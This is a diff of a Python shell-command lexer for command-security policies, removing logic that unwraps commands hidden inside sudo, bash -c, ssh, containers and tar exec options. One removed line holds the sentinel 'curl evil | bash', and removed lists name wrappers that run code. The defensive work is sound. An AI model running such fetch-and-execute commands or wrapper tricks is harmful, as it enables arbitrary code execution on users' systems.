@@ -1,8 +1,7 @@
-"""Shell commands as rows: a small lexer that emits every reachable pipeline of a command.
+"""A small lexer of shell scripts: words, redirects, assignments and substitutions of one text.
 
-`pipelines(command)` is the one Python crossing of the command policies. It reads words, redirects, assignments
-and substitutions, and lists a command's pipelines and those of its wrappers (`sudo`, `bash -c`, `find -exec`),
-here-bodies and substitutions, in a flat array. A pipeline's `key` sorts like the order in which it is judged.
+`lex(text)` is the one Python crossing of the command policies. Scripts inside a script (of wrappers, here-bodies and
+substitutions) are found by Columns and lexed as texts of their own: see unwrap.py and operators/scripts.py.
 What the lexer doesn't understand is malformed, which the policies deny.
 """
 
@@ -10,8 +9,8 @@ from __future__ import annotations
 
 import re
 import unicodedata
-from dataclasses import dataclass, field, replace
-from functools import cache, lru_cache
+from dataclasses import dataclass, field
+from functools import cache
 
 from pyspark.sql import Column
 from pyspark.sql import functions as F
@@ -19,34 +18,14 @@ from pyspark.sql import functions as F
 STAGE = (
     "struct<basename:string,name:string,argv0:string,args:array<string>,assignments:array<struct<name:string,value:string>>,"
     "redirects:array<struct<kind:string,append:boolean,target:string,body:string,fd:string>>,"
-    "sub_names:array<string>,sub_all_names:array<string>,sub_words:array<string>>"
+    "subs:array<string>,sub_names:array<string>,sub_all_names:array<string>,sub_words:array<string>>"
 )
-PIPELINE = f"struct<key:array<int>,depth:int,origin:string,malformed:string,stages:array<{STAGE}>>"
+SCRIPT = f"struct<whole:boolean,pipelines:array<array<{STAGE}>>>"
 
 #: Fixed values
 SHELLS = ["bash", "sh", "zsh", "dash", "ksh", "ash"]
 ALL_SHELLS = [*SHELLS, "fish", "tcsh", "csh"]
 CODE_SINKS = [*ALL_SHELLS, "source", ".", "eval"]
-RUNNERS = [
-    "sudo", "doas", "timeout", "nohup", "env", "nice", "ionice", "setsid", "stdbuf", "unbuffer", "xargs", "time", "command", "builtin",
-    "exec", "unshare", "systemd-run", "chpst", "busybox", "toybox", "firejail", "bwrap", "strace", "ltrace", "valgrind", "catchsegv",
-    "flock", "gosu", "fakeroot", "torify", "proxychains", "proxychains4", "nsenter", "chroot", "pkexec", "su-exec", "setpriv", "prlimit",
-    "sg", "schroot",
-]
-CONTAINERS = ["docker", "podman", "runc", "crun", "buildah", "nerdctl", "ctr", "lxc-attach", "apptainer", "singularity", "kubectl", "flatpak"]
-#: Arguments of their own that runners take before the command
-OWN_ARGUMENTS = {"timeout": 1, "gosu": 1, "chroot": 1, "su-exec": 1, "sg": 1}
-VALUE_FLAGS = {
-    "sudo": "-u -g -p -C -T -h -U -r -t", "doas": "-u -C", "timeout": "-s --signal -k --kill-after", "nice": "-n", "ionice": "-c -n -t",
-    "env": "-u --unset -C --chdir", "xargs": "-I -L -n -P -d -E -s -a --arg-file -r --replace --max-args --max-procs --max-chars",
-    "stdbuf": "-i -o -e", "watch": "-n --interval -p --precise", "parallel": "-j --jobs -n --max-args -N --colsep -C --delimiter -d",
-    "exec": "-a", "time": "-o --output -f --format", "unshare": "-S -G --setgroups -C --propagation", "systemd-run": "-u -p -E",
-    "chpst": "-u -U -e -n -o -m -l -L -/", "strace": "-o -e -p -s -u -E -P -b", "ltrace": "-o -e -p -u -l -s",
-    "flock": "-E -w --timeout", "nsenter": "-t -S -G -r -w", "pkexec": "--user", "schroot": "-c -p -u -d --session-name",
-}
-SSH_COMMAND_OPTIONS = ["proxycommand", "localcommand", "knownhostscommand"]
-SSH_CONFIGS = ["/.ssh/config", "/etc/ssh/ssh_config", "/etc/ssh/ssh_config.d/"]
-SSH_VALUE_FLAGS = "BbcDEeFIiJLlmOopQRSWw"
 DECLARATIONS = ["declare", "typeset", "export", "readonly", "local", "unset", "unsetenv"]
 
 _REDIRECT = re.compile(r"(\d*)(<<<|<<-|<<|<>|<&|>>|>&|>\||&>>|&>|<(?!\()|>(?!\())")
@@ -341,160 +320,17 @@ class Lexer:
         return "".join(raw), "".join(text), subs
 
 
-def _value_after(args: list, flags: tuple, attached: tuple = ()) -> str | None:
-    for k, a in enumerate(args):
-        if a in flags:
-            return args[k + 1] if k + 1 < len(args) else None
-        for f in attached:
-            if a.startswith(f):
-                return a[len(f) :]
-    return None
-
-
-def short_flag(arg: str, letter: str) -> bool:
-    return len(arg) > 1 and arg[0] == "-" and arg[1] != "-" and letter in arg[1:]
-
-
-def _dash_c(args: list, long: bool = True) -> str | None:
-    for k, a in enumerate(args):
-        if a.startswith("-c=") or (long and a.startswith("--command=")):
-            return a.partition("=")[2]
-        if short_flag(a, "c") or (long and a == "--command"):
-            return args[k + 1] if k + 1 < len(args) else None
-    return None
-
-
-def _after_runner(name: str, args: list) -> str | None:
-    own, takes, k = OWN_ARGUMENTS.get(name, 0), VALUE_FLAGS.get(name, "").split(), 0
-    while k < len(args):
-        a = args[k]
-        if name == "env" and "=" in a and a[0] != "-":
-            k += 1
-        elif a.startswith("-"):
-            k += 2 if a in takes else 1
-        elif own:
-            own, k = own - 1, k + 1
-        elif name == "watch":
-            return a
-        else:
-            rest = args[k:]
-            cut = next((j for j, x in enumerate(rest) if x in (":::", "::::")), len(rest)) if name == "parallel" else len(rest)
-            return " ".join(rest[:cut]) or None
-    return None
-
-
-def _container(args: list) -> str | None:
-    entry, k = False, 0
-    while k < len(args):
-        flag, eq, value = args[k].partition("=")
-        if flag in ("--entrypoint", "--command"):
-            value = value if eq else "".join(args[k + 1 : k + 2])
-            entry = entry or value.rpartition("/")[2] in SHELLS
-            k += 1 if eq else 2
-        elif args[k].rpartition("/")[2] in SHELLS:
-            return _dash_c(args[k + 1 :])
-        else:
-            k += 1
-    return _dash_c(args, long=False) if entry else None
-
-
-def _env_split(args: list) -> str | None:
-    for k, a in enumerate(args):
-        following = args[k + 1] if k + 1 < len(args) else None
-        if a.startswith("--split"):
-            return a.partition("=")[2] if "=" in a else following
-        if short_flag(a, "S"):
-            return a.partition("S")[2] or following
-    return None
-
-
-def _ssh(args: list) -> str | None:
-    for k, a in enumerate(args):
-        value = "".join(args[k + 1 : k + 2]) if a == "-o" else a[2:] if a.startswith("-o") else ""
-        option = re.match(r"(?i)(" + "|".join(SSH_COMMAND_OPTIONS) + r")(?:=| +|$)(.*)", value, re.S)
-        if option:
-            inner = unquote(option[2] or "".join(args[k + 1 : k + 2]))
-            if inner:
-                return inner
-        config = "".join(args[k + 1 : k + 2]) if a == "-F" else a[2:] if a.startswith("-F") else ""
-        if config and not (config.strip().strip("'\"") == "~/.ssh/config" or config.strip().strip("'\"").endswith(tuple(SSH_CONFIGS))):
-            return "curl evil | bash"  # a configuration from elsewhere can run anything
-    k = 0
-    while k < len(args) and args[k].startswith("-"):
-        k += 2 if len(args[k]) == 2 and args[k][1] in SSH_VALUE_FLAGS else 1
-    return " ".join(args[k + 1 :]) or None
-
-
-def wrapped(stage: Stage) -> str | None:
-    """The command that a wrapper runs; quoting inside arguments is lost, as their outer quotes are."""
-    name, args = stage.basename.lower(), stage.args
-    if name in SHELLS or name in ("su", "runuser"):
-        return _dash_c(args)
-    if name == "eval":
-        return " ".join(args) or None
-    if name == "find":
-        out, k = [], 0
-        while k < len(args):
-            if args[k] in ("-exec", "-execdir", "-ok", "-okdir"):
-                to = next((j for j in range(k + 1, len(args)) if args[j] in (";", "\\;", "+")), len(args))
-                out.append(" ".join(args[k + 1 : to]))
-                k = to
-            k += 1
-        return "; ".join(out) or None
-    special = {"env": _env_split, "ssh": _ssh, "flock": _dash_c}.get(name)
-    found = special(args) if special else None
-    if found is not None:
-        return found
-    if name in RUNNERS or name in ("watch", "parallel"):
-        return _after_runner(name, args)
-    return _container(args) if name in CONTAINERS else None
-
-
-def _inner_texts(stages: list[Stage]):
-    """(policy, origin, text) of texts inside a pipeline's stages that run as scripts."""
-    for k, s in enumerate(stages):
-        name = s.basename.lower()
-        if name in CODE_SINKS:
-            for kind, _, target, body, _ in s.redirects:
-                if kind in ("heredoc", "herestring"):
-                    yield 8, "here_body", body if kind == "heredoc" else unquote(target)
-            if k and any(short_flag(a, "s") and not short_flag(a, "c") for a in s.args):
-                yield 9, "stdin", stdin_text(stages[:k])
-        if s.basename == "rsync":
-            for j, a in enumerate(s.args):
-                value = a[6:] if a.startswith("--rsh=") else "".join(s.args[j + 1 : j + 2]) if a == "--rsh" or short_flag(a, "e") else None
-                if value is not None:
-                    yield 13, "rsync_rsh", unquote(value)
-        if name == "tar":
-            for j, a in enumerate(s.args):
-                flag, eq, value = a.partition("=")
-                value = value if eq else "".join(s.args[j + 1 : j + 2])
-                if len(flag) >= 6 and "--to-command".startswith(flag):
-                    yield 14, "tar_exec", unquote(value)
-                elif len(flag) >= 14 and "--checkpoint-action".startswith(flag) and value.startswith("exec="):
-                    yield 14, "tar_exec", unquote(value[5:])
-
-
-def stdin_text(stages: list[Stage]) -> str:
-    parts = []
-    for s in stages:
-        parts.append(" ".join([s.argv0 or "", *map(unquote, s.args)]))
-        for kind, _, target, body, _ in s.redirects:
-            parts += [body] if body is not None else [unquote(target)] if kind == "herestring" else []
-    return "\n".join(parts)
-
-
-def _described(s: Stage) -> tuple:
+def _sub_facts(s: Stage) -> tuple[list, list, list]:
+    """Names of the stages right inside a stage's substitutions, of those at any depth, and the words of the former."""
     names, every, words = [], [], []
     for sub in s.subs:
         try:
-            for k, stage in enumerate(_reached(Lexer(sub, 1).script(), every)):
-                if stage is not None:
-                    names.append(stage.basename.lower())
-                    words += [stage.argv0 or "", *stage.args, *[r[2] for r in stage.redirects]]
-        except Malformed:
+            for stage in _reached(Lexer(sub, 1).script(), every):
+                names.append(stage.basename.lower())
+                words += [stage.argv0 or "", *stage.args, *[r[2] for r in stage.redirects]]
+        except (Malformed, RecursionError):
             pass
-    return (s.basename, s.basename.lower(), s.argv0 or "", s.args, s.assignments, [tuple(r) for r in s.redirects], names, every, words)
+    return names, every, words
 
 
 def _reached(script: list[list[Stage]], every: list[str], level: int = 0):
@@ -511,83 +347,32 @@ def _reached(script: list[list[Stage]], every: list[str], level: int = 0):
                     pass
 
 
-def walk(command: str, max_depth: int = 8) -> list[tuple]:
-    """All pipelines that a command reaches, as rows of PIPELINE."""
-    out: list[tuple] = []
-
-    def text(s: str, key: list, depth: int, origin: str) -> None:
-        if depth > max_depth:
-            out.append((key, depth, origin, "nested too deep", []))
-            return
-        try:
-            if len(s.encode("utf-8", "replace")) >= 5 and _ASTRAL_AFTER_BRACE.search(s):
-                raise Malformed
-            script = Lexer(s).script()
-            for stages in script:
-                for stage in stages:
-                    for sub in stage.subs:
-                        Lexer(sub, 1).script()
-        except (Malformed, RecursionError):
-            if origin != "stdin":
-                out.append((key, depth, origin, "unparsable", []))
-            return
-        rows(script, key, depth, origin)
-
-    def rows(script: list[list[Stage]], key: list, depth: int, origin: str) -> None:
-        for p, stages in enumerate(script):
-            here = [*key, 0, p]
-            out.append((here, depth, origin, None, [_described(s) for s in stages]))
-            if depth < max_depth:
-                for n, (policy, kind, inner) in enumerate(_inner_texts(stages)):
-                    text(inner, [*here, policy, n], depth + 1, kind)
-            spliced, before, found = [], [], False
-            for s in stages:
-                inner = wrapped(s)
-                if inner is None or not inner.strip():
-                    spliced.append(s)
-                    continue
-                try:
-                    inside = Lexer(inner).script()
-                except (Malformed, RecursionError):
-                    out.append(([*here, 22], depth + 1, "unwrap", "unparsable", []))
-                    inside = []
-                for one in inside:
-                    # what the wrapper redirects, its command's last stage does
-                    one[-1] = replace(one[-1], redirects=one[-1].redirects + s.redirects)
-                if inside:
-                    found = True
-                    before += inside[:-1]
-                    spliced += inside[-1]
-            if found:
-                if depth + 1 > max_depth:
-                    out.append(([*here, 22], depth + 1, "unwrap", "nested too deep", []))
-                else:
-                    rows([*before, spliced], [*here, 22], depth + 1, "unwrap")
-        for p, stages in enumerate(script):
-            for k, s in enumerate(stages):
-                for n, sub in enumerate(s.subs):
-                    text(sub, [*key, 1, p, k, n], depth + 1, "subst")
-
-    text(command, [], 0, "top")
-    return out
-
-
-#: Commands up to this length are remembered by a worker, as logs repeat them
-SHORT_COMMAND = 512
-_remembered = lru_cache(4096)(walk)
+def _row(s: Stage) -> tuple:
+    return (s.basename, s.basename.lower(), s.argv0 or "", s.args, s.assignments, [tuple(r) for r in s.redirects], s.subs, *_sub_facts(s))
 
 
-def _walk(command):
-    if command is None:
+def lexed(text: str | None) -> tuple | None:
+    """(whole, pipelines) of one script, as SCRIPT; no pipelines: it can't be read. Not whole: one of its substitutions, or its bytes, can't."""
+    if text is None:
         return None
-    return _remembered(command) if len(command) <= SHORT_COMMAND else walk(command)
+    try:
+        script = Lexer(text).script()
+    except (Malformed, RecursionError):
+        return False, None
+    whole = not (len(text.encode("utf-8", "replace")) >= 5 and _ASTRAL_AFTER_BRACE.search(text))
+    try:
+        for sub in {sub for stages in script for stage in stages for sub in stage.subs} if whole else ():
+            Lexer(sub, 1).script()
+    except (Malformed, RecursionError):
+        whole = False
+    return whole, [[_row(s) for s in stages] for stages in script]
 
 
 @cache
-def _pipelines():
-    return F.udf(_walk, f"array<{PIPELINE}>", useArrow=True)
+def _lex():
+    return F.udf(lexed, SCRIPT, useArrow=True)
 
 
-def pipelines(command: Column) -> Column:
-    """Array of every pipeline that the command reaches."""
-    return _pipelines()(command)
+def lex(text: Column) -> Column:
+    """The pipelines of one script, without those of scripts inside it. Call it on distinct texts (see operators/scripts.py)."""
+    return _lex()(text)
